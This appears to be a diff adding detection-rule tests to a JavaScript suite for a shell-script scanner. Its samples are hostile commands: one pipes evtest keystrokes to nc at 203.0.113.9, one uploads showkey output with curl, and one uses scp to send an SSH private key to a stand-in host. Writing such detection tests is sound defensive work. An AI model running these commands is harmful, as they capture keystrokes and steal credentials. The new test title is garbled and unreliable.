@@ -87,3 +87,13 @@ describe('SSH keys', () => {
     expect(rulesIn('setup.sh', 'scp ~/.ssh/id_ed25519 deploy@drop.example:/tmp/\n')).toContain('exfil.credential-send');
   });
 });
+
+describe('spy.keylogger', () => {
+  it("the key stream read with evtest or showkey and sent is the keylogger xinput's is", () => {
+    for (const text of ['evtest /dev/input/event3 | nc 203.0.113.9 4444\n', 'showkey -a 2>&1 | curl -s -T - https://input-check.example/k\n']) {
+      expect(rulesIn('listen.sh', text), text).toContain('spy.keylogger');
+    }
+    // Kept local, a debugging session.
+    expect(rulesIn('listen.sh', 'evtest /dev/input/event3 | grep KEY_\n')).not.toContain('spy.keylogger');
+  });
+});
